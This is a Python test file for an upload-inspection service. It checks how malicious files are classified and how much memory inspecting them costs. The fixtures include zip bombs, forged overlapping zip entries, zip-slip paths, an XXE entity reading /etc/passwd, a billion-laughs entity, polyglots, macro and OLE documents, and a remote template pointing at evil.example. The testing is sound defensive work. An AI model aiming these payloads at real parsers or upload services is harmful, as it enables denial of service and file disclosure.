"""Files made to do harm: what becomes of each, and what it costs to find out. `-s` shows the table."""

from __future__ import annotations

import resource
import sys
import tracemalloc
from collections.abc import Callable, Iterator
from zipfile import ZipInfo

import pytest

from app.domain.content.file_types import ACCEPTED
from app.domain.content.inspection import child, inspect_bytes, whole
from app.domain.content.rules import FileRefused
from tests.ground import odd_files as odd
from tests.ground.scanner import EICAR

HTML = b"<!doctype html><script>alert(1)</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LOL = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
TEMPLATE = (
    '<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm"'
    ' TargetMode="External"/></Relationships>'
)


def many(count: int) -> bytes:
    return odd.zipped(*((f"{number}.txt", "a") for number in range(count)))


def quine_like() -> bytes:
    """A zip that holds itself, as deep as anybody cares to look."""
    return odd.nested(40, b"the end")


def shared_bytes() -> bytes:
    """Twenty names for one member's bytes: an overlap, as in Fifield's bomb."""
    made = bytearray(odd.zeros(20 * odd.MB, letter=b"ab"[:1]))
    start = made.index(b"PK\x01\x02")
    entry, end = bytes(made[start : made.index(b"PK\x05\x06")]), bytearray(made[-22:])
    end[8:10] = end[10:12] = (20).to_bytes(2, "little")
    end[12:16] = (20 * len(entry)).to_bytes(4, "little")
    return bytes(made[:start]) + entry * 20 + bytes(end)


def lying() -> bytes:
    """A member that says it is ten bytes and is a megabyte."""
    made = bytearray(odd.zeros(odd.MB))
    at = made.index(b"PK\x01\x02")
    made[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(made)


def special(kind: int) -> bytes:
    member = ZipInfo("pipe.txt")
    member.external_attr = kind << 16
    return odd.zipped((member, b""))


CASES: list[tuple[str, str, Callable[[], bytes], str]] = [
    ("bomb: 100 MB of zeros", "a.zip", lambda: odd.zeros(100 * odd.MB), "unsafe"),
    ("bomb: 300 MB in five members", "a.zip",
     lambda: odd.zipped(*((f"{n}.txt", b"0" * 60 * odd.MB) for n in range(5))), "unsafe"),
    ("bomb: nested", "a.zip", lambda: odd.nested(2, odd.zeros(100 * odd.MB), "z.zip"), "unsafe"),
    ("bomb: docx", "a.docx", lambda: odd.docx("a" * 100 * odd.MB), "unsafe"),
    ("bomb: xlsx", "a.xlsx", lambda: odd.xlsx("a" * 100 * odd.MB), "unsafe"),
    ("bomb: members that share bytes", "a.zip", shared_bytes, "unsafe"),
    ("bomb: a member that lies about its size", "a.zip", lying, "unreadable"),
    ("201 members", "a.zip", lambda: many(201), "unsafe"),
    ("200 members", "a.zip", lambda: many(200), "kept"),
    ("10,000 members", "a.zip", lambda: many(10_000), "unsafe"),
    ("2,001 parts of a document", "a.docx",
     lambda: odd.docx("", *((f"word/{n}.xml", "<a/>") for n in range(2_001))), "unsafe"),
    ("quine-like: a zip forty deep", "a.zip", quine_like, "unsafe"),
    ("a zip three deep", "a.zip", lambda: odd.nested(3, b"hello"), "kept"),
    ("a zip four deep", "a.zip", lambda: odd.nested(4, b"hello"), "unsafe"),
    ("zip slip: ..", "a.zip", lambda: odd.zipped(("../../etc/cron.txt", "a")), "unsafe"),
    ("zip slip: ..\\", "a.zip", lambda: odd.zipped(("..\\..\\cron.txt", "a")), "unsafe"),
    ("zip slip: /", "a.zip", lambda: odd.zipped(("/etc/cron.txt", "a")), "unsafe"),
    ("zip slip: C:", "a.zip", lambda: odd.zipped(("C:\\cron.txt", "a")), "unsafe"),
    ("symbolic link", "a.zip", odd.link, "unsafe"),
    ("a pipe", "a.zip", lambda: special(0o010644), "unsafe"),
    ("encrypted zip", "a.zip", odd.encrypted_zip, "locked"),
    ("encrypted zip in a zip", "a.zip", lambda: odd.nested(1, odd.encrypted_zip(), "b.zip"), "locked"),
    ("cut-off zip", "a.zip", lambda: odd.zipped(("a.txt", "hello"))[:-10], "unreadable"),
    ("a program in a zip", "a.zip", lambda: odd.zipped(("setup.exe", b"MZ\0\0")), "unsafe"),
    ("a program called text in a zip", "a.zip", lambda: odd.zipped(("a.txt", b"MZ\0\0")), "unsafe"),
    ("a script in a zip", "a.zip", lambda: odd.zipped(("run.js", "alert(1)")), "unsafe"),
    ("HTML in a zip", "a.zip", lambda: odd.zipped(("page.html", HTML)), "kept"),
    ("SVG in a zip", "a.zip", lambda: odd.zipped(("logo.svg", SVG)), "kept"),
    ("XML with a DOCTYPE in a zip", "a.zip", lambda: odd.zipped(("a.xml", XXE)), "kept"),
    ("HTML by mail", "a.eml", lambda: odd.letter(b"hi", files=[("page.html", HTML)]), "kept"),
    ("HTML called png in a zip", "a.zip", lambda: odd.zipped(("page.png", HTML)), "unsafe"),
    ("pixel flood in a zip", "a.zip", lambda: odd.zipped(("a.png", odd.flood())), "unsafe"),
    ("polyglot: PDF + zip", "a.pdf", lambda: odd.pdf() + odd.zipped(("a.txt", "a")), "unsafe"),
    ("polyglot: PDF + zip, called zip", "a.zip",
     lambda: odd.pdf() + odd.zipped(("a.txt", "a")), "refused: content"),
    ("polyglot: GIF + JS", "a.gif",
     lambda: odd.picture("GIF") + b"/*" + b"*/=1;alert(1)//", "kept, clean"),
    ("polyglot: JPEG + HTML", "a.jpg", lambda: odd.picture("JPEG") + HTML, "kept, clean"),
    ("polyglot: JPEG comment + HTML", "a.jpg",
     lambda: odd.jpeg_saying(comment="<script>alert(1)</script>"), "kept, clean"),
    ("polyglot: PNG + zip", "a.png",
     lambda: odd.picture() + odd.zipped(("alert(1).txt", "a")), "kept, clean"),
    ("pixel flood: PNG", "a.png", odd.flood, "refused: image"),
    ("pixel flood: GIF", "a.gif", lambda: odd.flood("GIF"), "refused: image"),
    ("pixel flood: 3,000 frames", "a.gif", lambda: odd.moving("GIF", 3000, (150, 150)), "refused: image"),
    ("50 megapixels", "a.png", lambda: odd.picture("PNG", (7070, 7070)), "kept, clean"),
    ("SVG", "a.svg", lambda: SVG, "refused: type"),
    ("SVG called png", "a.png", lambda: SVG, "refused: content"),
    ("SVG with XXE", "xxe.svg", lambda: (XXE.encode() + SVG), "refused: type"),
    ("HTML", "a.html", lambda: HTML, "refused: type"),
    ("HTML called png", "a.png", lambda: HTML, "refused: content"),
    ("HTML called json", "a.json", lambda: HTML, "refused: content"),
    ("XXE in a docx", "a.docx", lambda: odd.docx(XXE), "unsafe"),
    ("lol.xml in an xlsx", "a.xlsx", lambda: odd.xlsx(head=LOL), "unsafe"),
    ("XXE in UTF-16", "a.docx",
     lambda: odd.docx("", ("word/x.xml", "\ufeff".encode("utf-16-le") + XXE.encode("utf-16-le"))), "unsafe"),
    ("macros in a docx", "a.docx", lambda: odd.docx("", ("word/vbaProject.bin", b"\xd0\xcf")), "unsafe"),
    ("docm called docx", "a.docx",
     lambda: odd.docx("", types="application/vnd.ms-word.document.macroEnabled.main+xml"), "unsafe"),
    ("docm", "a.docm", lambda: odd.docx(""), "refused: type"),
    ("template from elsewhere", "a.docx",
     lambda: odd.docx("", ("word/_rels/settings.xml.rels", TEMPLATE)), "unsafe"),
    ("an OLE object", "a.docx", lambda: odd.docx("", ("word/embeddings/oleObject1.bin", b"x")), "unsafe"),
    ("a zip called docx", "a.docx", lambda: odd.zipped(("a.txt", "a")), "refused: content"),
    ("password PDF", "a.pdf", odd.locked_pdf, "locked"),
    ("broken PDF", "a.pdf", lambda: b"%PDF-1.7\n" + b"\xff" * 5000, "unreadable"),
    ("mail with a program", "a.eml", lambda: odd.letter(b"hi", files=[("a.exe", b"MZ\0")]), "unsafe"),
    ("mail with a bomb", "a.eml",
     lambda: odd.letter(b"hi", files=[("a.zip", odd.zeros(100 * odd.MB))]), "unsafe"),
    ("encrypted mail", "a.eml",
     lambda: odd.letter(b"x", "Content-Type: application/pkcs7-mime; name=smime.p7m"), "locked"),
    ("an executable", "a.exe", lambda: b"MZ", "refused: type"),
    ("EICAR, no scanner named", "a.txt", lambda: EICAR, "kept"),
]  # fmt: skip

HARM = (b"<script", b"alert(1)", b"<html", b"PK\x03\x04")


@pytest.fixture(scope="module")
def table() -> Iterator[list[str]]:
    rows: list[str] = []
    yield rows
    parent = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
    head = f"\n{'case':45} {'bytes':>10} {'outcome':18} {'here':>7} {'child':>7}\n"
    last = f"\nthis process at its most: {parent} MB, pytest included\n"
    sys.stdout.write(head + "\n".join(rows) + last)


@pytest.mark.parametrize(
    ("case", "name", "make", "outcome"), CASES, ids=[each[0] for each in CASES]
)
def test_what_becomes_of_it(case, name, make, outcome, table, monkeypatch):
    data, peaks = make(), [0]

    def watched(kind, content):
        answer = child.ask_child(kind, content)
        peaks.append(answer.peak)
        return answer

    monkeypatch.setattr(whole, "ask_child", watched)
    tracemalloc.start()
    try:
        seen = inspect_bytes(name, data)
        said = seen.withheld or ("kept, clean" if seen.kind.picture else "kept")
        assert bool(seen.content) == said.startswith("kept")
        if seen.kind.picture:
            assert not [harm for harm in HARM if harm in seen.content]
    except FileRefused as problem:
        said = f"refused: {problem.reason}"
    here = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    table.append(
        f"{case:45} {len(data):>10} {said:18} {here / odd.MB:>4.0f} MB {max(peaks) / odd.MB:>4.0f} MB"
    )

    assert said == outcome
    assert here < 3 * len(data) + 16 * odd.MB
    assert max(peaks) < (700 if name.endswith(("png", "gif")) else 400) * odd.MB


def test_every_type_that_is_taken_has_a_case():
    cases = {name.rpartition(".")[2] for _, name, _, _ in CASES}

    assert set(ACCEPTED) - cases <= {"jpeg", "webp", "log", "csv"}
